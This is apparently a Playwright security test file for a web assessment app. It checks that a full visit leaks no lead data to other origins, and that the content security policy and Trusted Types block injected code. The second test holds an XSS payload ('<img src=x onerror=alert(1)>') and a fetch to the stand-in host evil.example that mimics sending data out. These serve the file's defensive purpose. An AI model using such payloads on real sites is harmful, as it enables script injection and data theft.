import type { Page, Request } from '@playwright/test'
import { answersOf } from '../../support/answer-sets.ts'
import { reportCodeOf } from '../../../src/domain/report/report-code.ts'
import { MODEL } from '../../../src/generated/model.ts'
import {
  choose,
  expect,
  expectComplaint,
  LEAD,
  openReport,
  startAsLead,
  test,
  watchPolicy,
} from '../visitor.ts'

/** Every page and every state of a visit, from the lead to the cleared browser. */
async function walkEverywhere(page: Page): Promise<void> {
  await startAsLead(page)
  await page.getByRole('button', { name: 'Begin Assessment' }).click()
  await choose(page, 4)
  await expect(page.getByText('Question 2 of 12')).toBeVisible()
  await openReport(page, '433 232 445 223')
  for (const summary of await page.locator('summary').all()) await summary.click()
  const link = await page.getByRole('textbox', { name: /link/i }).inputValue()
  await page.goto(new URL(link).pathname)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const [code = ''] = /[^/]+$/.exec(new URL(link).pathname) ?? []
  const other = reportCodeOf(MODEL, answersOf('333 333 333 333'))
  for (const path of [`/compare/${code}/${other}`, '/team/K7Q2M4XT9B3C5D6H']) {
    await page.goto(path)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }
  await page.goto('/assessment/question/99')
  await expect(page).toHaveURL('/assessment/start')
  await page.goto('/assessment/results')
  await page.getByRole('button', { name: 'Clear my answers and details' }).click()
  await page.getByRole('button', { name: 'Yes, clear' }).click()
  await expect(page).toHaveURL('/')
}

test('a whole visit raises no report of the content policy and asks no other origin', async ({
  page,
  baseURL,
}) => {
  test.slow()
  const reports = await watchPolicy(page)
  const seen: Request[] = []
  page.on('request', (request) => void seen.push(request))
  await walkEverywhere(page)
  const requests = await Promise.all(
    seen.map(async (request) => ({
      url: request.url(),
      referer: (await request.allHeaders())['referer'],
    })),
  )

  expect(reports).toEqual([])
  expect(requests.length).toBeGreaterThan(20)
  expect(requests.filter(({ url }) => !url.startsWith(`${baseURL}/`))).toEqual([])
  const sent = requests
    .map(({ url, referer }) => `${decodeURIComponent(url)} ${referer}`)
    .join('\n')
  for (const value of Object.values(LEAD)) expect(sent).not.toContain(value)
  // Chromium sends a page's address where a style in the page fetches a font, whatever the policy says: only
  // to the server that the page came from.
  expect(requests.filter(({ url, referer }) => referer && !url.endsWith('.woff2'))).toEqual([])
})

test('the browser blocks and reports what an injected script would do', async ({
  page,
  complaints,
}) => {
  const reports = await watchPolicy(page)
  await page.goto('/')
  const outcomes = await page.evaluate(async () => {
    const tried = async (attempt: () => unknown) => {
      try {
        await attempt()
        return 'done'
      } catch (error) {
        return error instanceof Error ? error.name : 'stopped'
      }
    }
    const element = document.createElement('div')
    document.body.append(element)
    const script = () => {
      const inline = document.createElement('script')
      inline.append('window.wasInjected = true')
      document.head.append(inline)
    }
    return {
      innerHtml: await tried(() => (element.innerHTML = '<img src=x onerror=alert(1)>')),
      policy: await tried(() => Reflect.get(window, 'trustedTypes').createPolicy('default', {})),
      fetch: await tried(() => fetch('https://evil.example/?lead')),
      script: await tried(script),
      wasInjected: Reflect.get(window, 'wasInjected') === true,
      style: await tried(() => element.setAttribute('style', 'color: red')),
      styled: element.style.color,
    }
  })
  await expect(() => expect(reports.length).toBeGreaterThanOrEqual(5)).toPass()

  expect(outcomes).toMatchObject({
    innerHtml: 'TypeError',
    policy: 'TypeError',
    fetch: 'TypeError',
    wasInjected: false,
    styled: '',
  })
  const directives = reports.join('\n')
  for (const directive of ['require-trusted-types-for', 'connect-src', 'style-src-attr']) {
    expect(directives).toContain(directive)
  }
  expectComplaint(complaints, /Content Security Policy|Trusted|HTMLScriptElement/i)
})
